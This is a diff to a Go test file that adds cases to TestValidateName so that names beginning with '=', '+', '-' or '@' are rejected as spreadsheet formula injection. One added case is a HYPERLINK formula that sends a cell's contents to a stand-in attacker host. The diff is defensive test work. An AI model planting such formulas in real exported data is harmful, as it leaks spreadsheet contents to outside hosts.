@@ -91,6 +91,13 @@ func TestValidateName(t *testing.T) {
 		{"Budi\u009b31m", "", "control character"},
 		{"Budi\u202eosotnaS", "", "bidirectional"},
 		{"Bud\xffi", "", "UTF-8"},
+		{`=HYPERLINK("http://evil.example/?d="&H2,"Klik")`, "", `must not begin with "="`},
+		{"+1+1", "", `must not begin with "+"`},
+		{"-2+3", "", `must not begin with "-"`},
+		{"@SUM(1+1)", "", `must not begin with "@"`},
+		{" \t=1+1", "", `must not begin with "="`},
+		{"Siti = Aminah-Putri", "Siti = Aminah-Putri", ""},
+		{"'=1+1", "'=1+1", ""},
 	}
 	for _, tt := range tests {
 		got, err := ValidateName(tt.in)
